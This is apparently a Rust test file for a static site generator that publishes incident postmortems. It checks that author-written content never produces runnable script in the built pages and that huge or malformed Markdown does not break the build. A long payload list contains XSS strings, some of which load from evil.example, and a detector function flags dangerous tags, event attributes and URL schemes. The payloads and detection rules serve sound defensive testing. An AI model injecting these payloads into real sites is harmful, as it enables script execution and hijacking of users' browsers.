//! Hostile text through the whole pipeline: nothing of it runs in a reader's browser, and nothing of it stops a build.

use std::collections::BTreeMap;

use scraper::{ElementRef, Html};

use crate::crawl::{dead_links, repeated_ids};
use crate::library::Library;
use crate::look::{matches, texts};

/// What runs a script somewhere, or has: each stands in every field that an author can write.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"background:url(//evil.example)\">x</div>",
    "<p id=cb-nav class=skip onclick=alert(1)>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</textarea></script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "[x](javascript:alert(1))",
    "[x](<java&#x0A;script:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[[\"><script>alert(1)</script>]]",
    "{{ 7 * 7 }}{% raw %}{{<script>}}",
    "{{ frame | safe }}{% include \"base.html\" %}",
    "`<script>alert(1)</script>`",
    "**<b onclick=alert(1)>x**",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// A document that says `payload` wherever something can be said.
fn document(payload: &str) -> String {
    let quoted = serde_json::to_string(payload).unwrap();
    let p = quoted.as_str();
    format!(
        "---
title: {p}
summary: {p}
date: 2026-01-01
severity: sev2
owner: {p}
presenter: {p}
systems: [{{ id: known, role: cause }}, {p}]
tags: [{p}]
root_cause: {p}
contributing: [{p}]
services: [{p}]
aliases: [{p}]
started: 2026-01-01T09:00Z
mitigated: 2026-01-01T10:00Z
impact: {{ summary: {p}, users: {p}, slo: {p}, cost: {p}, cleanup: [{p}] }}
timeline: [{{ at: 2026-01-01T09:00Z, what: {p}, type: trigger }}]
trigger: {{ kind: unknown, what: {p} }}
effects: [{{ what: {p}, system: {p} }}]
actions:
  - {{ id: {p}, what: {p}, type: process/x, owner: {p}, status: wont-do, reason: {p}, tracker: {p}, done_when: {p} }}
  - {{ what: {p}, type: {p}, tracker: {p}, owner: {p}, due: 2026-02-01 }}
lessons: {{ well: [{p}], badly: [{p}], lucky: [{p}] }}
related: [{{ id: 2026-01-01-plain, relation: see-also, why: {p} }}]
links: {{ {p}: {p} }}
extra: {{ {p}: {p} }}
---

## {payload}

{payload}

A sentence with {payload} and [a link](2026-01-01-plain.md \"{payload}\").

- {payload}
- ![{payload}](<{payload}>) [{payload}](<{payload}>)

| {payload} | x |
|---|---|
| {payload} | [y]({payload}) |

> [!NOTE]
> {payload}

```{payload}
{payload}
```

~~~rust
{payload}
~~~

Term[^x]
: {payload}

[^x]: {payload}

## Action items

- [ ] {payload}

## Timeline

- 10:00 {payload}
"
    )
}

/// Whether an address leads to the site itself.
fn is_own(address: &str) -> bool {
    !address.strip_prefix("https://pm.example/").unwrap_or(address).contains("//")
}

/// Whether a form is one of the template's, which lead to the search page.
fn is_own_form(form: ElementRef<'_>) -> bool {
    // What narrows a list is for a script, and leads nowhere.
    let is_narrow = form.attr("class") == Some("narrow js-only") && form.attr("action").is_none();
    is_narrow
        || matches!(form.attr("class"), Some("opener" | "bigsearch"))
            && form.attr("action").is_some_and(|action| is_own(action) && action.ends_with("search.html"))
}

/// What of a page could run, or load something from elsewhere, and is not the template's own.
fn dangers(path: &str, html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let mut found = Vec::new();
    for element in matches(&page, "*") {
        let name = element.value().name().to_lowercase();
        let at = |text: String| format!("{path}: {text}");
        let is_own_script = element.attr("src").is_some_and(|src| is_own(src) && src.contains("static/"));
        let is_forbidden = [
            "iframe",
            "object",
            "embed",
            "style",
            "base",
            "math",
            "template",
            "noscript",
            "video",
            "foreignobject",
            "animate",
            "set",
        ];
        if is_forbidden.contains(&name.as_str())
            || (name == "form" && !is_own_form(element))
            || (name == "script" && (!is_own_script || !texts(&element.html(), "script").concat().is_empty()))
        {
            found.push(at(element.html()));
        }
        if name == "meta"
            && element.attr("http-equiv").is_some_and(|kind| kind.eq_ignore_ascii_case("refresh"))
            && !html.contains("cb-moved")
        {
            found.push(at(element.html()));
        }
        for (attribute, value) in element.value().attrs() {
            let folded: String =
                value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            let is_address = matches!(
                attribute,
                "href" | "src" | "action" | "formaction" | "data" | "poster" | "srcset" | "xlink:href"
            );
            let runs = ["javascript:", "vbscript:", "data:"].iter().any(|scheme| folded.starts_with(scheme));
            let is_elsewhere = matches!(name.as_str(), "script" | "link" | "img" | "source") && !is_own(&folded);
            if attribute.starts_with("on") || attribute == "style" || (is_address && (runs || is_elsewhere)) {
                found.push(at(format!("<{name} {attribute}=\"{value}\">")));
            }
        }
    }
    found
}

fn library() -> Library {
    let library = Library::new();
    library.write(
        "site.toml",
        "[[taxonomy]]\nkey = \"services\"\nlabel = \"Services\"\n[publish]\ntracker = \"https://t.example/{id}\"\n",
    );
    library.write("content/2026-01-01-plain.md", "---\ntitle: Plain\n---\n\nText.\n");
    library.write("content/systems/known.md", "---\ntitle: Known\n---\n\nText.\n");
    library
}

fn all_dangers(library: &Library) -> Vec<String> {
    let pages = library.outputs().into_iter().filter(|(name, _)| name.ends_with(".html"));
    pages.flat_map(|(name, bytes)| dangers(&name, &String::from_utf8(bytes).unwrap())).collect()
}

#[test]
fn the_judge_sees_what_is_dangerous() {
    let n_seen = PAYLOADS.iter().filter(|payload| !dangers("x", payload).is_empty()).count();
    assert!(n_seen >= 30, "only {n_seen} of the payloads that are HTML are seen");
    assert_eq!(
        dangers("x", "<a href=\"https://x.example/javascript:\">javascript:alert(1)</a><b title=\"onclick=x\">"),
        [""; 0]
    );
}

#[test]
fn nothing_that_an_author_writes_runs() {
    let library = library();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        library.write(&format!("content/2026-01-02-d{i:02}.md"), &document(payload));
        let quoted = serde_json::to_string(payload).unwrap();
        let page = format!(
            "---\ntitle: {quoted}\ndescription: {quoted}\nowner: {quoted}\nlinks: {{ {quoted}: {quoted} }}\n---\n\n{payload}\n\n# {payload}\n"
        );
        library.write(&format!("content/systems/s{i:02}.md"), &page);
    }
    library.run(&["build", "-qq", "-u", "https://pm.example"]).exits(1);
    assert_eq!(all_dangers(&library), [""; 0]);
    let outputs = library.outputs();
    let n_pages = outputs.keys().filter(|name| name.starts_with("incidents/2026-01-02-d")).count();
    assert_eq!(n_pages, PAYLOADS.len());
    assert_eq!(repeated_ids(&outputs), [""; 0]);
    for (name, bytes) in outputs.iter().filter(|(name, _)| name.starts_with("feeds/")) {
        let feed =
            atom_syndication::Feed::read_from(bytes.as_slice()).unwrap_or_else(|error| panic!("{name}: {error}"));
        assert!(!feed.entries().is_empty());
    }
    serde_json::from_slice::<serde_json::Value>(&outputs["url-manifest.json"]).unwrap();
}

#[test]
fn titles_are_shown_as_they_were_written() {
    let library = library();
    let shown = ["<script>alert(1)</script>", "\"><b>x</b>", "{{ 7 * 7 }}", "a & b &amp; c", "' onmouseover='x"];
    for (i, title) in shown.iter().enumerate() {
        let title = serde_json::to_string(title).unwrap();
        library.write(&format!("content/2026-01-02-d{i}.md"), &format!("---\ntitle: {title}\n---\n"));
    }
    library.build();
    for (i, title) in shown.iter().enumerate() {
        assert_eq!(texts(&library.output(&format!("incidents/2026-01-02-d{i}.html")), "h1"), [*title]);
        assert!(texts(&library.output("index.html"), ".ttl").contains(&(*title).to_owned()));
    }
}

#[test]
fn file_names_and_settings_do_not_run_either() {
    let library = library();
    let payload = "\"><script>alert(1)</script><img src=x onerror=alert(1)>";
    let quoted = serde_json::to_string(payload).unwrap();
    library.write(
        "site.toml",
        &format!("[site]\ntitle = {quoted}\norganisation = {quoted}\nlanguage = {quoted}\ndate_format = {quoted}\n[process]\nseverities = [{quoted}]\n[[taxonomy]]\nkey = \"x\"\nlabel = {quoted}\nsingular = {quoted}\n[publish]\nrepository = \"https://x.example\"\nbranch = {quoted}\ntracker = \"https://t.example/{{id}}\"\n"),
    );
    for name in ["<script>alert(1)<", "\" onload=\"alert(1)", "javascript:alert(1)", "a&b'c"] {
        library.write(&format!("content/{name}.md"), &format!("Text ![x](<{name}.png>)\n\n[x](<{name}.png>)\n"));
        library.write(&format!("content/{name}.png"), "x");
    }
    library.write("content/index.md", "---\ntitle: <script>alert(1)</script>\n---\n\n<img src=x onerror=alert(1)>\n");
    let run = library.run(&["build"]);
    assert!(run.code <= 1, "{}", run.stderr);
    assert_eq!(all_dangers(&library), [""; 0]);
    assert_eq!(dead_links(&library.outputs()), [""; 0]);
}

/// Builds documents that are large or odd; expects that all are there and nothing fails.
fn survives(documents: &BTreeMap<&str, String>) {
    let library = Library::new();
    for (name, body) in documents {
        library.write(
            &format!("content/{name}.md"),
            &format!("---\ntitle: The {name}\ndate: 2026-01-01\n---\n\n{body}\n"),
        );
    }
    let run = library.run(&["build"]);
    assert!((0..=1).contains(&run.code), "{}: {}", run.code, &run.stderr[..run.stderr.len().min(2000)]);
    assert!(run.stderr.len() < 500_000, "the report is a flood of {} bytes", run.stderr.len());
    for name in documents.keys() {
        assert_eq!(texts(&library.output(&format!("incidents/{name}.html")), "h1"), [format!("The {name}")]);
    }
}

#[test]
fn large_documents_are_built() {
    let line = "Lorem ipsum dolor sit amet, [consectetur](nowhere.md) **adipiscing** `elit`.\n\n";
    let rows: String =
        (0..20_000).map(|i| format!("| 2026-01-01 {:02}:{:02} | Event {i} |\n", i / 60 % 24, i % 60)).collect();
    survives(&BTreeMap::from([
        ("megabytes", line.repeat(5_000_000 / line.len())),
        ("headings", (0..10_000).map(|i| format!("## Heading {}\n\nText.\n\n", i % 100)).collect()),
        ("table", format!("| Time | Event |\n|---|---|\n{rows}")),
    ]));
}

#[test]
fn deep_and_crooked_documents_are_built() {
    survives(&BTreeMap::from([
        ("quotes", format!("{}deep", "> ".repeat(2_000))),
        ("lists", (0..600).map(|i| format!("{}- x\n", "  ".repeat(i))).collect()),
        ("brackets", format!("{}x{}", "[".repeat(20_000), "](".repeat(10_000))),
        ("emphasis", "*a_ ".repeat(10_000)),
        ("backticks", (0..500).map(|i| format!("{}x ", "`".repeat(i))).collect()),
        ("tags", format!("{}{}{}", "<div>".repeat(5_000), "</span>".repeat(5_000), "<!--".repeat(2_000))),
        ("bold", "<b>".repeat(5_000)),
        ("images", "![a".repeat(5_000)),
        ("entities", "&#x41;&bogus;&amp".repeat(5_000)),
        ("footnotes", (0..1_000).map(|i| format!("x[^{i}]\n\n[^{i}]: note[^{}]\n\n", i + 1)).collect()),
        ("footnote-marks", "[^a".repeat(5_000)),
        ("links", (0..5_000).map(|i| format!("[a{i}](nope{i}.md) [[nope{i}]] ")).collect()),
        ("references", (0..5_000).map(|i| format!("[r{i}]: /x{i}\n")).collect()),
        ("rules", ">---\n".repeat(5_000)),
        ("dashes", "---\n".repeat(5_000)),
        ("cells", format!("|{}\n|{}\n|{}\n", "x|".repeat(2_000), "-|".repeat(2_000), "y|".repeat(2_000))),
        ("fences", "```\n~~~\n".repeat(2_000)),
        ("code", format!("```rust\n{}\n```", "fn f() { let x = \"{\"; }".repeat(500))),
        ("word", "x".repeat(200_000)),
        ("unicode", "\u{202e}\u{200b}e\u{301}🔥\u{1F468}\u{200D}\u{1F469}".repeat(2_000)),
        ("tasks", "- [ ] do\n".repeat(2_500)),
        ("times", "10:00 - 11:00 UTC 2026-01-01 ~9am ".repeat(2_000)),
    ]));
}

#[test]
fn large_front_matter_is_built() {
    let library = Library::new();
    let documents = [
        (
            "actions",
            format!(
                "actions:\n{}",
                (0..5_000).map(|i| format!("  - {{ what: Do {i}, owner: team {} }}\n", i % 50)).collect::<String>()
            ),
        ),
        ("systems", format!("systems: [{}]\n", (0..3_000).map(|i| format!("s{i}, ")).collect::<String>())),
        ("depth", format!("extra: {}{}\n", "[".repeat(5_000), "]".repeat(5_000))),
        ("levels", format!("systems: [{}x]\n", "a/".repeat(500))),
        ("keys", (0..5_000).map(|i| format!("k{i}: v\n")).collect()),
        ("text", format!("summary: {}\n", "x".repeat(900_000))),
        ("too-much", format!("summary: {}\n", "x".repeat(1_100_000))),
    ];
    for (name, lines) in &documents {
        library.write(
            &format!("content/{name}.md"),
            &format!("---\ntitle: The {name}\ndate: 2026-01-01\n{lines}---\n\nText.\n"),
        );
    }
    let run = library.run(&["build"]);
    run.exits(1).says("content/depth.md:4:").says("content/too-much.md:1:1");
    for (name, _) in &documents {
        assert!(library.has_output(&format!("incidents/{name}.html")), "{name}");
    }
    let bytes: usize = library.outputs().values().map(Vec::len).sum();
    assert!(bytes < 100_000_000, "a few large documents become {bytes} bytes");
    assert!(run.stderr.len() < 1_000_000, "the report is a flood of {} bytes", run.stderr.len());
}
